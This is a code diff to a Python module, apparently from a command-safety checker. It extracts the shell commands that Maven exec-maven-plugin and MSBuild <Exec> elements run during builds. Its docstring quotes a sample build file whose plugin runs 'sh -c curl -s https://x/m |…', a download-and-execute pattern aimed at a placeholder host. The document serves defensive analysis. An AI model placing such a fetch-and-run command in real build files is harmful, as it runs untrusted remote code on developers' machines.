@@ -1,4 +1,5 @@
-"""Round 41 (lead, fc): the command a Maven ``exec-maven-plugin`` execution carries, read as a command (``build_tools``).
+"""Round 41 (lead, fc): the command a Maven ``exec-maven-plugin`` execution or an MSBuild ``<Exec Command=…/>``
+carries, read as a command (``build_tools``).
 
 Round 10 read a ``pom.xml`` declaring a plugin that runs programs as opaque: its write added nothing (the run is judged
 when it comes), so ``<executable>sh</executable><arguments><argument>-c</argument><argument>curl -s https://x/m |
@@ -12,6 +13,7 @@ Still opaque (``None``: the run is judged when it comes): any other runner plugi
 """
 from __future__ import annotations
 
+import re
 import shlex
 from typing import Any
 from xml.etree import ElementTree
@@ -77,3 +79,25 @@ def pom_commands(content: str, root: ElementTree.Element) -> str | None:
     """The exec-maven-plugin lines of a pom whose only runner plugin is exec-maven-plugin, else None."""
     lines = exec_plugin_lines(root)
     return None if lines is None else "\n".join(lines)
+
+
+_MSBUILD_EXEC = re.compile(r"<\s*Exec\b[^<>]{0,4000}?/?>", re.IGNORECASE)
+
+
+def msbuild_commands(content: str, runs: re.Pattern[str]) -> str | None:
+    """An MSBuild project's ``<Exec Command="…"/>`` commands as shell lines (a ``.csproj``/``.proj``/
+    ``Directory.Build.targets`` target runs them at the next ``dotnet build``), when nothing else in it runs code
+    (``runs``: the caller's pattern, tried on the content with the Exec elements left out) and no command holds an
+    MSBuild property (``$(…)``, ``@(…)``, ``%(…)``); else None (opaque, as before)."""
+    if "<Exec" not in content and "<exec" not in content.lower() or "<!DOCTYPE" in content or "<!ENTITY" in content:
+        return None
+    try:
+        root = ElementTree.fromstring(content)
+    except (ElementTree.ParseError, ValueError, RecursionError):
+        return None
+    if _local(root.tag) != "Project" or runs.search(_MSBUILD_EXEC.sub("", content)):
+        return None
+    lines = [e.get("Command") or "" for e in root.iter() if _local(e.tag) == "Exec"]
+    if not lines or any(not line or re.search(r"[$@%]\(", line) for line in lines):
+        return None
+    return "\n".join(lines)
